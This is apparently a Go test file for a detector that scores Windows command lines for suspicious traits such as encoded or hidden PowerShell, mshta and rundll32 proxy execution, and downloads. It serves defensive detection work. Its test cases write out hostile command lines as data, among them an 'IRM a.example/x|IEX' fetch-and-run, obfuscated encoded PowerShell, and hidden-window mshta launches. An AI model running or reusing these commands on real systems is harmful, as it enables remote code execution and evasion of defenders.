package score

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// shownBy are the habits that a program's command line shows.
func shownBy(program, command string) string {
	p := Process{Name: []byte(program), Path: []byte(`c:\windows\system32\` + program), Command: []byte(strings.ToLower(command))}
	var names []string
	Each(&p, func(h *Habit) { names = append(names, h.Name) })
	return strings.Join(names, " ")
}

// Switches count that the program at hand reads: not those of scripts, of commands and of other
// programs on the line, of which robocopy's /e is the most frequent.
func TestWhoseSwitchItIs(t *testing.T) {
	for _, c := range []struct{ program, command, want string }{
		{"cmd.exe", `cmd.exe /c robocopy D:\a E:\b /e /w 1`, ""},
		{"cmd.exe", `cmd /c xcopy a b /s /e`, ""},
		{"cmd.exe", `cmd /e:on /c dir`, ""},
		{"cmd.exe", `cmd /c "powershell -nop -e SQBFAFgA"`, "encoded"},
		{"cmd.exe", `cmd /c pow^ersh^ell -e^nc SQBFAFgA`, "encoded"},
		{"cmd.exe", `cmd /c a&&"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -ec SQBFAFgA`, "encoded"},
		{"powershell.exe", `powershell.exe -File C:\jobs\a.ps1 -e prod -w 1`, ""},
		{"powershell.exe", `powershell.exe -ep bypass C:\jobs\a.ps1 -e prod`, ""},
		{"powershell.exe", `powershell.exe -nop C:\jobs\a.ps1 -e prod`, ""},
		{"powershell.exe", `powershell -c "Copy-Item a b -e x"`, ""},
		{"powershell.exe", `powershell -Command powershell -enc SQBFAFgA`, "encoded"},
		{"powershell.exe", `powershell -c Start-Process powershell -ArgumentList '-enc SQBFAFgA'`, "encoded"},
		{"powershell.exe", `powershell -ex bypass -version 2 -enc SQBFAFgA`, "encoded"},
		{"powershell.exe", `powershell -exe bypass`, ""},
		{"powershell.exe", `powershell -encodedcommands SQBFAFgA`, ""},
		{"powershell.exe", `"C:\Program Files\PowerShell\7\pwsh.exe" –EncodedCommand SQBFAFgA`, "encoded"},
		{"powershell.exe", `something else -enc SQBFAFgA`, ""}, // where PowerShell's name is, its program is
		{"powershell.exe", `x -enc SQBFAFgA`, "encoded"},
		{"pwsh.exe", `pwsh --enc SQBFAFgA`, "encoded"},
		{"powershell.exe", `powershell -w h -c a`, "hidden"},
		{"powershell.exe", `powershell -W 1 -c a`, "hidden"},
		{"powershell.exe", `powershell -w 2 -c a`, ""},
		{"powershell.exe", `powershell -w normal -c "echo hidden"`, ""},
		{"powershell.exe", `powershell -Wind"ow"Style "Hidden" a`, "hidden"},
		{"powershell.exe", `powershell -c Start-Process a.exe -WindowStyle Hidden`, "hidden"},
		{"bash.exe", `bash -e a.sh`, ""},

		{"cmd.exe", `cmd /c start "" /min a.cmd`, "hidden"},
		{"cmd.exe", `cmd /c cd x&start "my title" /d C:\jobs /b a.cmd`, "hidden"},
		{"cmd.exe", `cmd /c start /wait a.exe /min /b`, ""},
		{"cmd.exe", `cmd /c net start x & dir /b`, ""},
		{"cmd.exe", `cmd /c start "/min"`, ""},
		{"conhost.exe", `conhost.exe --headless cmd /c a.cmd`, "hidden"},
		{"conhost.exe", `"C:\Windows\system32\conhost.exe" --headless --width 120 --height 30 --signal 0x2b8 --server 0x2b4`, ""},
		{"conhost.exe", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, ""},
		{"mshta.exe", `mshta vbscript:CreateObject("WScript.Shell").Run("a.cmd", 0)(window.close)`, "hidden proxy_execution"},
		{"mshta.exe", `mshta javascript:new ActiveXObject('WScript.Shell').Run('a.cmd',0,true)`, "hidden proxy_execution"},
		{"mshta.exe", `mshta vbscript:CreateObject("WScript.Shell").Run("a.cmd",1)`, "proxy_execution"},
		{"cmd.exe", `cmd /c a.run "x",0`, ""},

		{"powershell.exe", `powershell -c Start-BitsTransfer \\a\b c`, "download"},
		{"rundll32.exe", `rundll32 \\files.example@SSL\DavWWWRoot\a.dll,b`, "download proxy_execution"},
		{"powershell.exe", `powershell -c "Remove-Item a -Confirm false"`, ""},
		{"powershell.exe", `powershell -c "IRM a.example/x|IEX"`, "download"},
		{"powershell.exe", `powershell -c "confirm;(iwr a.example)"`, "download"},
		{"finger.exe", `finger a@b.example`, "download"},
		{"cmd.exe", `cmd /c %AppData%\a.cmd`, "profile"},
		{"powershell.exe", `powershell -f $env:TEMP\a.ps1`, "open_folder"},
		{"powershell.exe", `powershell -f $env:Public\a.ps1`, "odd_folder"},
		{"a.exe", `a.exe %AppData%\a.cmd`, ""},
	} {
		if got := shownBy(c.program, c.command); got != c.want {
			t.Errorf("%s shows %q, want %q", c.command, got, c.want)
		}
	}
}

// However a command line is written that PowerShell reads as one and the same, it shows the same.
func TestSpellingsOfSwitches(t *testing.T) {
	r := rand.New(rand.NewPCG(21, 1))
	pick := func(from ...string) string { return from[r.IntN(len(from))] }
	spell := func(name string, least int) string {
		name = name[:least+r.IntN(len(name)-least+1)]
		at := r.IntN(len(name) + 1)
		return pick("-", "/", "--", "–", "—", "―") + name[:at] + pick("", "", `""`, "^", "`") + name[at:]
	}
	for range 2000 {
		var line, want []string
		line = append(line, pick("powershell", "PowerShell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `"C:\x y\pwsh.exe"`))
		add := func(words ...string) { line = append(line, words...) }
		for range r.IntN(3) {
			switch r.IntN(4) {
			case 0:
				add(spell("noprofile", 3))
			case 1:
				add(spell("executionpolicy", 2), "bypass")
			case 2:
				add(spell("noninteractive", 4))
			case 3:
				add(spell("sta", 1))
			}
		}
		encoded := r.IntN(2) == 0
		if encoded {
			want = append(want, "encoded")
		}
		if r.IntN(2) == 0 {
			add(spell("windowstyle", 1), pick("hidden", `"Hidden"`, "hid", "h", "1"))
			want = append(want, "hidden")
		}
		switch {
		case encoded:
			add(spell("encodedcommand", 1), "SQBFAFgA")
		case r.IntN(2) == 0:
			add(spell("file", 1), "a.ps1", "-e", "x", "-w", "1")
		default:
			add(spell("command", 1), "get-date", "-e", "x")
		}
		command := strings.Join(line, pick(" ", "  ", "\t"))
		if got := shownBy("powershell.exe", command); got != strings.Join(want, " ") {
			t.Fatalf("%s shows %q, want %q", command, got, want)
		}
	}
}
